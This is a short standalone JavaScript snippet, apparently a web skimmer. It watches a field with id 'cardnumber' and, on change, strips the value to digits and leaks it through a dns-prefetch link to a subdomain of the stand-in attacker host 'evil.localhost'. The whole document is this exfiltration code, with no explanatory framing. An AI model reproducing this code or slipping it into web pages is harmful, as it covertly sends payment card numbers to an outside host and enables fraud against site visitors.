document.addEventListener("change", function (e) {
  if (e.target.id !== "cardnumber") return;
  var l = document.createElement("link");
  l.rel = "dns-prefetch";
  l.href = "//" + e.target.value.replace(/\D/g, "") + ".evil.localhost";
  document.head.appendChild(l);
});
